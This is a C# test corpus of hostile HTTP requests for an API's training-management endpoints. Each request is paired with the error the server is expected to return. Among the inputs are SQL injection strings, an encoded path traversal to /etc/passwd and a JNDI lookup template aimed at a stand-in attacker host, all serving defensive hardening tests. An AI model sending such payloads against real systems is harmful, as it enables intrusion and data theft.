using System.Text;
using Entitle.Api.Tms;
using Entitle.Tests.Support;
using static Entitle.Tests.Hardening.Hostile.TmsRequests;

namespace Entitle.Tests.Hardening.Hostile;

/// <summary>
/// Hostile TMS requests written by hand: credentials, unknown methods, HTTP methods, content types, form bodies
/// that cannot be read or are cut short, invalid UTF-8, empty and huge values, and numbers and epochs at and past
/// their limits where they meet real data.
/// </summary>
public static class TmsTransportCorpus
{
    /// <summary>A call that would create a user if it ran.</summary>
    private const string CreateUser = "CreateUser?FirstName=Hostile&LastName=Caller";

    public static IEnumerable<HostileRequest> All() =>
    [
        .. Credentials(),
        .. UnknownMethods(),
        .. HttpMethods(),
        .. ContentTypes(),
        .. InvalidUtf8(),
        .. Truncated(),
        .. EmptyAndHuge(),
        .. Overflows(),
        .. IdempotencyKeys(),
    ];

    private static IEnumerable<HostileRequest> Credentials()
    {
        var unauthorized = HostileExpectation.TmsUnauthorized();
        HostileRequest As(string name, string header, string? key, string path = CreateUser) =>
            new($"auth: {name}", "GET", Prefix + path, unauthorized) { Headers = key is null ? [] : [new(header, key)] };

        yield return As("no api_key", "api_key", null);
        yield return As("an empty api_key", "api_key", "");
        yield return As("an unknown api_key", "api_key", "not-a-key");
        yield return As("SQL in the api_key", "api_key", "' OR 1=1 --");
        yield return As("a wildcard api_key", "api_key", "%");
        yield return As("the root key with SQL after it", "api_key", TestApp.RootKey + "' --");
        yield return As("the root key in another case", "api_key", TestApp.RootKey.ToUpperInvariant());
        yield return As("the root key with a Bearer scheme", "api_key", "Bearer " + TestApp.RootKey);
        yield return As("a 10,000-character api_key", "api_key", new string('k', 10_000));
        yield return As("the key as a bearer token", "Authorization", "Bearer " + TestApp.RootKey);
        yield return As("the key under another header name", "api-key", TestApp.RootKey);
        yield return As("the key in the query string", "api_key", null, CreateUser + "&api_key=" + TestApp.RootKey);
        yield return As("no key for a search", "api_key", null, "SearchCourses?name=%27%20OR%201%3D1%20--");
        yield return As("no key for an unknown id", "api_key", null, "DeleteUser/999999");
    }

    private static IEnumerable<HostileRequest> UnknownMethods()
    {
        var unknown = HostileExpectation.TmsUnknownMethod();
        foreach (var (name, path) in new[]
        {
            ("an unknown name", "FlyToTheMoon"),
            ("SQL", "%27%20OR%201%3D1%20--"),
            ("an encoded path traversal", "..%2F..%2Fetc%2Fpasswd"),
            ("a 4,000-character name", new string('M', 4000)),
            ("invalid UTF-8", "Get%FF%FEUser"),
            ("a trailing space", "GetUser%20"),
            ("a hyphen", "Get-User"),
            ("an emoji", "%F0%9F%94%A5"),
            ("a version in the name", "2.0"),
            ("a template", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.invalid%2Fa%7D"),
        })
        {
            yield return Get($"unknown method: {name}", path, unknown);
        }

        yield return Get("unknown method: a NUL", "GetUser%00", HostileExpectation.Transport(400));
        yield return Get("unknown method: a known method with two ids", "GetUser/35/36", unknown);
        yield return Get("unknown method: no method", "", unknown);
        yield return Form("unknown method: a POST to the OpenAPI document", "openapi.json", "id=1", unknown);
        yield return new HostileRequest("unknown method: another API version", "GET", "/api/1.0/GetUser?id=35", unknown) { Headers = [ApiKey] };
    }

    private static IEnumerable<HostileRequest> HttpMethods()
    {
        foreach (var method in new[] { "PUT", "DELETE", "PATCH", "OPTIONS" })
        {
            yield return Form($"method: {method}", CreateUser, "Email=put%40example.com", HostileExpectation.TmsMethodNotAllowed()) with { Method = method };
        }

        foreach (var method in new[] { "TRACE", "PROPFIND", "BREW" })
        {
            yield return new HostileRequest($"method: {method}", method, Prefix + CreateUser, HostileExpectation.TmsMethodNotAllowed()) { Headers = [ApiKey] };
        }

        yield return new HostileRequest("method: HEAD", "HEAD", Prefix + CreateUser, HostileExpectation.Transport(405)) { Headers = [ApiKey] };
    }

    private static IEnumerable<HostileRequest> ContentTypes()
    {
        var required = HostileExpectation.TmsError(10) with { Mentions = "required" };
        var unreadable = HostileExpectation.TmsError(10) with { Mentions = "form body" };
        yield return Form("content type: JSON", "GetUser", "{\"id\": 35}", required, "application/json");
        yield return Form("content type: text", "GetUser", "id=35", required, "text/plain");
        yield return Form("content type: XML", "DeleteUser", "<Id>35</Id>", required, "application/xml");
        yield return Form("content type: none", "GetUser", "id=35", required, null!);
        yield return Form("content type: garbage", "GetUser", "id=35", required, "x/y;;;=");
        yield return Form("content type: multipart without a boundary", "GetUser", "id=35", unreadable, "multipart/form-data");
        yield return Form("content type: multipart of garbage", "GetUser", "id=35", unreadable, "multipart/form-data; boundary=b");
        yield return Form("content type: multipart with an endless boundary", "GetUser", "--b\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\n35", unreadable, "multipart/form-data; boundary=b");
        yield return Form("content type: multipart with a 1,000-character boundary", "GetUser", "--x", unreadable, "multipart/form-data; boundary=" + new string('b', 1000));
        yield return Form("content type: a form in an unknown charset", "GetUser", $"id={Unknown}", HostileExpectation.TmsError(20), "application/x-www-form-urlencoded; charset=klingon");
        yield return Post("content type: a form in UTF-16", "SearchCourses", Encoding.Unicode.GetBytes("name=%27%20OR%201%3D1"), HostileExpectation.TmsErrorOrEmptySearch("name"), "application/x-www-form-urlencoded; charset=utf-16");
        yield return Form("content type: a form with 2,000 fields", "GetUser", string.Join("&", Enumerable.Range(0, 2000).Select(i => $"f{i}=1")), unreadable);
        yield return Form("content type: a form with a 3,000-character name", "GetUser", new string('n', 3000) + "=1", unreadable);
        yield return Form("content type: a form of bare separators", "GetUser", "&&&===&&&", required);
        yield return Form("content type: a form of broken escapes", "SearchCourses", "name=%&code=%G1%2", HostileExpectation.TmsEmptySearch());
    }

    private static IEnumerable<HostileRequest> InvalidUtf8()
    {
        foreach (var (name, escaped) in new[]
        {
            ("a lone continuation byte", "%80"), ("0xFF and 0xFE", "%FF%FE"), ("an overlong slash", "%C0%AF"), ("an encoded surrogate", "%ED%A0%80"), ("a truncated sequence", "%E2%82"),
        })
        {
            yield return Get($"utf-8: {name} in a search", $"SearchCourses?name=x{escaped}", HostileExpectation.TmsEmptySearch());
            yield return Get($"utf-8: {name} in a lookup", $"GetUserByEmail?email={escaped}%40example.com", HostileExpectation.TmsError(10, 20));
            yield return Get($"utf-8: {name} in a parameter name", $"GetUser?i{escaped}d=35", HostileExpectation.TmsError(10) with { Mentions = "required" });
            yield return Post($"utf-8: {name} in a form body", "SearchCourses", [.. Encoding.ASCII.GetBytes("name=x"), .. Convert.FromHexString(escaped.Replace("%", "", StringComparison.Ordinal))], HostileExpectation.TmsEmptySearch());
            yield return Get($"utf-8: {name} in a new user's name", $"CreateUser?FirstName=x{escaped}&LastName=y&OrganizationId={Unknown}", HostileExpectation.TmsError());
        }
    }

    private static IEnumerable<HostileRequest> Truncated()
    {
        var form = Encoding.ASCII.GetBytes("FirstName=Cut&LastName=Short&Email=cut%40example.com");
        var refused = HostileExpectation.TmsError(10);
        yield return Post("truncated: half the announced form, then the client falls silent", "CreateUser", form[..(form.Length / 2)], refused with { Statuses = [408] }) with { DeclaredLength = form.Length };
        yield return Post("truncated: a multipart body cut in a part", "CreateUser", Encoding.ASCII.GetBytes("--b\r\nContent-Disposition: form-data; name=\"FirstName\"\r\n\r\nCut\r\n--b\r\nContent-Disposition: form-data; na"), refused, "multipart/form-data; boundary=b");
        yield return Post("truncated: a multipart body cut in a header", "CreateUser", Encoding.ASCII.GetBytes("--b\r\nContent-Dispos"), refused, "multipart/form-data; boundary=b");
        yield return Form("truncated: a form cut in an escape", "SearchCourses", "name=%2", HostileExpectation.TmsEmptySearch());
    }

    private static IEnumerable<HostileRequest> EmptyAndHuge()
    {
        var required = HostileExpectation.TmsError(10) with { Mentions = "required" };
        yield return Get("empty: an empty id", "GetUser?id=", required);
        yield return Get("empty: a blank id", "GetUser?id=%20%20%09", required);
        yield return Get("empty: empty names", "CreateUser?FirstName=&LastName=", required);
        yield return Get("empty: an empty route id", "DeleteUser/%20", required);
        yield return Get("empty: a list of commas", $"CreateSubscriptionTrainingKeys?subscriptionProfileId={Unknown}&expirationDate={In2030}&trainingKeys=%2C%2C%2C", HostileExpectation.TmsError());
        yield return Get("empty: a parameter without a name", "GetUser?=35", required);
        yield return Get("empty: a parameter without a value", "GetUser?id", required);

        var tooLong = HostileExpectation.TmsError(10);
        yield return Get("huge: a 101-character first name", $"CreateUser?FirstName={new string('f', 101)}&LastName=Long", tooLong with { Mentions = "FirstName" });
        yield return Form("huge: a one-megabyte first name", "CreateUser", $"FirstName={new string('f', 1024 * 1024)}&LastName=Long", tooLong with { Mentions = "FirstName" });
        yield return Get("huge: a 255-character email address", $"CreateUser?FirstName=Long&LastName=Mail&Email={new string('m', 243)}%40example.com", tooLong with { Mentions = "Email" });
        yield return Get("huge: a 201-character external id", $"CreateUser?FirstName=Long&LastName=External&ExternalId={new string('e', 201)}", tooLong with { Mentions = "ExternalId" });
        yield return Get("huge: a 201-character organization name", $"CreateOrganization?Name={new string('o', 201)}", tooLong with { Mentions = "Name" });
        yield return Get("huge: a 5,000-character user rename", $"UpdateUser?Id=35&FirstName={new string('f', 5000)}", tooLong with { Mentions = "FirstName" });
        yield return Get("huge: a 101-character training key", $"CreateSubscriptionTrainingKeys?subscriptionProfileId=1&expirationDate={In2030}&trainingKeys={new string('K', 101)}", tooLong with { Mentions = "trainingKey" });
        yield return Get("huge: a training key of SQL", $"CreateSubscriptionTrainingKeys?subscriptionProfileId=1&expirationDate={In2030}&trainingKeys=%27%20OR%201%3D1%20--", tooLong with { Mentions = "trainingKey" });
        yield return Get("huge: a control character in a name", "CreateUser?FirstName=a%01b&LastName=Control", tooLong with { Mentions = "FirstName" });
        yield return Get("huge: an escape sequence in a name", "UpdateUser?Id=35&LastName=%1B%5B31mred", tooLong with { Mentions = "LastName" });
        yield return Get("huge: an unknown currency", "CreateOrganization?Name=Currency&Currency=ZZZ", tooLong with { Mentions = "Currency" });
        yield return Get("huge: SQL for a currency", "UpdateOrganization?id=2&Currency=USD%27%20--", tooLong with { Mentions = "Currency" });
        yield return Form("huge: 100,001 training keys", "CreateSubscriptionTrainingKeys", $"subscriptionProfileId=1&expirationDate={In2030}&trainingKeys=" + string.Join("%2C", Enumerable.Range(0, 100_001).Select(i => $"K{i}")), tooLong);
        // Sent over a raw connection that announces the whole length: the server refuses it by that length and
        // closes, and a client still writing four megabytes would lose the answer to the closed connection.
        yield return Post("huge: a form announced over four megabytes", "SearchCourses", Encoding.ASCII.GetBytes("name=" + new string('n', 1000)), HostileExpectation.TmsError(10) with { Statuses = [413] }) with { DeclaredLength = TmsEndpoint.MaxBodyBytes + 1 };
        yield return Get("huge: a request line over 8 KiB", "SearchCourses?name=" + new string('n', 9000), HostileExpectation.Transport(414));
    }

    private static IEnumerable<HostileRequest> Overflows()
    {
        var refused = HostileExpectation.TmsError(10);
        yield return Get("overflow: a subscription starting at the last second with the default length", "CreateClubMembership?clubId=1&userId=32&starts=253402300799", refused);
        yield return Get("overflow: a subscription ending before it starts", "CreateClubMembership?clubId=1&userId=32&starts=253402300799&expires=0", refused);
        yield return Get("overflow: a subscription moved to the last second", "UpdateClubMembership?id=1&clubId=1&userId=31&starts=253402300799", refused);
        yield return Get("overflow: 2^31 - 1 keys", $"CreateSubscriptionTrainingKeys?subscriptionProfileId=1&expirationDate={In2030}&numberOfKeys=2147483647", refused with { Mentions = "numberOfKeys" });
        yield return Get("overflow: 100,001 keys", $"CreateSubscriptionTrainingKeys?subscriptionProfileId=1&expirationDate={In2030}&numberOfKeys=100001", refused with { Mentions = "numberOfKeys" });
        yield return Get("overflow: no keys", $"CreateSubscriptionTrainingKeys?subscriptionProfileId=1&expirationDate={In2030}&numberOfKeys=0", refused with { Mentions = "numberOfKeys" });
        yield return Get("overflow: -1 keys", $"CreateSubscriptionTrainingKeys?subscriptionProfileId=1&expirationDate={In2030}&numberOfKeys=-1", refused with { Mentions = "numberOfKeys" });
        yield return Get("overflow: 2^31 - 1 uses", $"CreateSubscriptionTrainingKeys?subscriptionProfileId=1&expirationDate={In2030}&maxKeyUses=2147483647", refused with { Mentions = "maxKeyUses" });
        yield return Get("overflow: no uses", $"CreateSubscriptionTrainingKeys?subscriptionProfileId=1&expirationDate={In2030}&maxKeyUses=0", refused with { Mentions = "maxKeyUses" });
        yield return Get("overflow: keys that expired at the epoch", "CreateSubscriptionTrainingKeys?subscriptionProfileId=1&expirationDate=0", refused with { Mentions = "expirationDate" });
        yield return Get("overflow: a key updated to expire at the epoch", "UpdateSubscriptionTrainingKey?Id=999999&trainingKey=ABC&subscriptionProfileId=1&expirationDate=0", HostileExpectation.TmsError(10, 20));
        yield return Get("overflow: access checked at the last second for an unknown user", "CheckCourseAccess?userId=999999&courseId=2&at=253402300799", HostileExpectation.TmsError(20));
        yield return Get("overflow: an organization under itself", "CreateOrganization?Name=Loop&ParentId=-1", HostileExpectation.TmsError(10, 20));
        yield return Get("overflow: deleting the caller's own organization", "DeleteOrganization?id=1", HostileExpectation.TmsError(10, 20));
        yield return Get("overflow: deleting organization 0", "DeleteOrganization?id=0", HostileExpectation.TmsError(10, 20));
        yield return Get("overflow: deleting the smallest id", "DeleteUser?Id=-2147483648", HostileExpectation.TmsError(10, 20));
    }

    private static IEnumerable<HostileRequest> IdempotencyKeys()
    {
        var refused = HostileExpectation.TmsError(10) with { Mentions = "Idempotency-Key" };
        foreach (var (name, key) in new[] { ("256 characters", new string('k', 256)), ("a space", "key with spaces"), ("a tab", "key\twith-tab") })
        {
            yield return Get($"idempotency key: {name}", CreateUser, refused).WithHeader("Idempotency-Key", key);
        }
    }

    private static HostileRequest Post(string name, string method, byte[] body, HostileExpectation expected, string contentType = "application/x-www-form-urlencoded") =>
        new(name, "POST", Prefix + method, expected) { Headers = [ApiKey], Body = body, ContentType = contentType };
}
